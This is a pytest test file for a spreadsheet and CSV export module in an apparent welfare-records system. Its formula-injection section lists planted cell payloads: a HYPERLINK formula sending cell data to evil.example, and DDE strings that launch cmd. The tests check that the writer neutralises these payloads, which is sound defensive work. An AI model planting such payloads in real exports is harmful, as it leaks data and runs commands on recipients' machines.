"""common/spreadsheets.py: the one workbook writer every export uses."""

import datetime as dt
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from common.spreadsheets import Month, PrintSetup, Sheet, csv_chunks, workbook_response, write_workbook


def test_sheets_caption_header_rows_and_footer(tmp_path):
    path = tmp_path / "out.xlsx"
    write_workbook(
        [
            Sheet(
                "低保/特困:汇总",
                ["区划", "人数", "金额"],
                iter([("东湖区", 3, Decimal("740.00")), ("西湖区", None, 0)]),
                caption=["2026年第3季度"],
                footer=[("合计", 3, Decimal("740.00"))],
                widths=[20, 8],
            ),
            Sheet("空表", ["a"], []),
        ],
        path,
    )
    book = load_workbook(path)
    assert book.sheetnames == ["低保_特困_汇总", "空表"]
    rows = [tuple(r) for r in book["低保_特困_汇总"].iter_rows(values_only=True)]
    assert rows == [
        ("2026年第3季度", None, None),
        ("区划", "人数", "金额"),
        ("东湖区", 3, 740),
        ("西湖区", None, 0),
        ("合计", 3, 740),
    ]
    sheet = book["低保_特困_汇总"]
    assert sheet.freeze_panes == "A3"
    assert sheet["A2"].font.bold and sheet["A5"].font.bold and not sheet["A3"].font.bold
    assert [tuple(r) for r in book["空表"].iter_rows(values_only=True)] == [("a",)]


def test_response_is_an_attachment():
    response = workbook_response("名单.xlsx", [Sheet("名单", ["姓名"], [("张三",)])])
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    assert body[:2] == b"PK"


def test_the_scope_walks_read_the_cells_of_an_export():
    from conftest import body_text

    response = workbook_response("名单.xlsx", [Sheet("名单", ["姓名"], [("外区机密地址张三",)])])
    assert "外区机密地址张三" in body_text(response)


def test_a_failed_access_log_hands_out_nothing(rf, caseworker, monkeypatch):
    import pytest

    from accounts import services
    from accounts.personal_exports import personal_export_response

    def broken(**kwargs):
        raise RuntimeError("日志库不可用")

    monkeypatch.setattr(services, "access_log_record", broken)
    request = rf.get("/households/export.xlsx")
    request.user = caseworker
    with pytest.raises(RuntimeError):
        personal_export_response(
            request, filename="名单.xlsx", what="导出名单", sheets=[Sheet("名单", ["姓名"], [("张三",)])]
        )


# --- formula injection (OWASP) and typed cells --------------------------------------------------

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", PLANTED)
def test_xlsx_text_that_could_start_a_formula_is_written_as_text_with_an_apostrophe(tmp_path, text):
    path = tmp_path / "out.xlsx"
    write_workbook([Sheet("名单", ["姓名", "住址"], iter([(text, "南昌")]))], path)
    cell = load_workbook(path)["名单"]["A2"]
    assert (cell.value, cell.data_type) == ("'" + text, "s")
    assert "<f>" not in _sheet_xml(path)


@pytest.mark.parametrize("text", PLANTED)
def test_csv_text_that_could_start_a_formula_gets_an_apostrophe(text):
    rows = _csv(csv_chunks(["姓名", "住址"], iter([(text, "南昌")])))
    assert rows == [["姓名", "住址"], ["'" + text, "南昌"]]


def test_harmless_text_and_numbers_are_left_alone(tmp_path):
    path = tmp_path / "out.xlsx"
    write_workbook([Sheet("s", ["a", "b", "c", "d"], iter([("张=三", "a-b", -5, Decimal("-1.50"))]))], path)
    assert [c.value for c in load_workbook(path)["s"][2]] == ["张=三", "a-b", -5, -1.5]
    assert _csv(csv_chunks(["a", "b", "c", "d"], iter([("张=三", "a-b", -5, Decimal("-1.50"))])))[1] == [
        "张=三",
        "a-b",
        "-5",
        "-1.50",
    ]


def test_cells_keep_their_type_and_format(tmp_path):
    path = tmp_path / "out.xlsx"
    row = (
        "360102198001010012",
        "6228480000000000000",
        Decimal("860.5"),
        dt.date(2018, 7, 2),
        Month.of(dt.date(2018, 7, 15)),
        dt.datetime(2018, 7, 2, 9, 30),
        True,
        None,
        3,
    )
    write_workbook([Sheet("s", list("abcdefghi"), iter([row]))], path)
    cells = load_workbook(path)["s"][2]
    assert [(c.value, c.data_type, c.number_format) for c in cells] == [
        ("360102198001010012", "s", "@"),
        ("6228480000000000000", "s", "@"),
        (860.5, "n", "0.00"),
        (dt.datetime(2018, 7, 2), "d", "yyyy-mm-dd"),
        (dt.datetime(2018, 7, 1), "d", "yyyy-mm"),
        (dt.datetime(2018, 7, 2, 9, 30), "d", "yyyy-mm-dd hh:mm"),
        ("是", "s", "General"),
        (None, "n", "General"),
        (3, "n", "General"),
    ]
    assert _csv(csv_chunks(list("abcdefghi"), iter([row])))[1] == [
        "\t360102198001010012",
        "\t6228480000000000000",
        "860.50",
        "2018-07-02",
        "2018-07",
        "2018-07-02 09:30",
        "是",
        "",
        "3",
    ]


def test_reused_styled_cells_carry_no_value_into_another_row_or_column(tmp_path):
    """The writer keeps one styled cell per (column, format) for the data rows: each row's cells show their own
    values, an empty value stays empty, two columns of one format never share a cell, and a column whose values
    change type keeps each row's type and format."""
    path = tmp_path / "out.xlsx"
    rows = [
        ("360102198001010012", "6228480000000000001", Decimal("10.00"), dt.date(2018, 7, 2)),
        (None, "6228480000000000002", None, Decimal("5.5")),
        ("36010219800101001X", None, Decimal("20.25"), "36010219900101002X"),
        ("短", "=1+1", 7, ""),
        ("360102198001010039", "6228480000000000003", Decimal("0.00"), Month.of(dt.date(2019, 3, 9))),
    ]
    write_workbook(
        [
            Sheet(
                "s", list("abcd"), iter(rows), caption=["标题"], footer=[("合计", "", Decimal("37.25"), None)]
            )
        ],
        path,
    )
    got = [
        [(c.value, c.data_type, c.number_format, bool(c.font.bold)) for c in row]
        for row in load_workbook(path)["s"].iter_rows(min_row=3, max_col=4)
    ]
    empty = (None, "n", "General", False)
    assert got == [
        [
            ("360102198001010012", "s", "@", False),
            ("6228480000000000001", "s", "@", False),
            (10, "n", "0.00", False),
            (dt.datetime(2018, 7, 2), "d", "yyyy-mm-dd", False),
        ],
        [empty, ("6228480000000000002", "s", "@", False), empty, (5.5, "n", "0.00", False)],
        [
            ("36010219800101001X", "s", "@", False),
            empty,
            (20.25, "n", "0.00", False),
            ("36010219900101002X", "s", "@", False),
        ],
        [("短", "s", "General", False), ("'=1+1", "s", "General", False), (7, "n", "General", False), empty],
        [
            ("360102198001010039", "s", "@", False),
            ("6228480000000000003", "s", "@", False),
            (0, "n", "0.00", False),
            (dt.datetime(2019, 3, 1), "d", "yyyy-mm", False),
        ],
        [
            ("合计", "s", "General", True),
            (None, "inlineStr", "General", True),
            (37.25, "n", "0.00", True),
            (None, "n", "General", True),
        ],
    ]
    xml = _sheet_xml(path)
    assert "<f>" not in xml and '<c r="D6"' not in xml  # the empty text: no cell at all


def test_csv_is_utf8_with_a_bom():
    raw = "".join(csv_chunks(["姓名"], iter([("张三",)]))).encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf") and raw.decode("utf-8-sig") == "姓名\r\n张三\r\n"


def test_header_frozen_filtered_and_columns_fit_chinese_text(tmp_path):
    path = tmp_path / "out.xlsx"
    rows = [(n, "滕王阁街道民巷社区居委会", "360102198001010012") for n in range(3)]
    write_workbook([Sheet("s", ["编号", "社区", "身份证号码"], iter(rows), caption=["标题"])], path)
    sheet = load_workbook(path)["s"]
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:C5"
    # 12 CJK characters take 24 columns, an 18-digit number 18, plus a margin of 2; "编号" fits in the minimum 6.
    assert [sheet.column_dimensions[c].width for c in "ABC"] == [6, 26, 20]


def test_print_setup_with_totals_known_only_after_the_rows(tmp_path):
    path = tmp_path / "out.xlsx"
    seen = []

    def rows():
        for n in (1, 2):
            seen.append(n)
            yield (n, Decimal("10.00"))

    printing = PrintSetup(header="东湖区民政局 2018年07月", footer=lambda: f"合计：共{len(seen)}笔")
    write_workbook([Sheet("s", ["序号", "金额"], rows(), printing=printing)], path)
    sheet = load_workbook(path)["s"]
    setup = sheet.page_setup
    assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.oddHeader.center.text == "东湖区民政局 2018年07月"
    assert (sheet.oddFooter.left.text, sheet.oddFooter.right.text) == ("合计：共2笔", "第 &P 页，共 &N 页")


def test_a_form_sheet_has_text_columns_and_dropdowns(tmp_path):
    path = tmp_path / "out.xlsx"
    write_workbook(
        [
            Sheet(
                "s",
                ["姓名", "身份证号码", "户主"],
                iter(()),
                text_columns=["身份证号码"],
                dropdowns=[("户主", ["是", "否"])],
                form_rows=100,
            )
        ],
        path,
    )
    sheet = load_workbook(path)["s"]
    assert sheet.column_dimensions["B"].number_format == "@"
    assert sheet.column_dimensions["A"].number_format == "General"
    (validation,) = sheet.data_validations.dataValidation
    assert (validation.type, validation.formula1, str(validation.sqref)) == ("list", '"是,否"', "C2:C101")


def _sheet_xml(path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def _csv(chunks) -> list[list[str]]:
    import csv
    import io

    text = "".join(chunks)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))
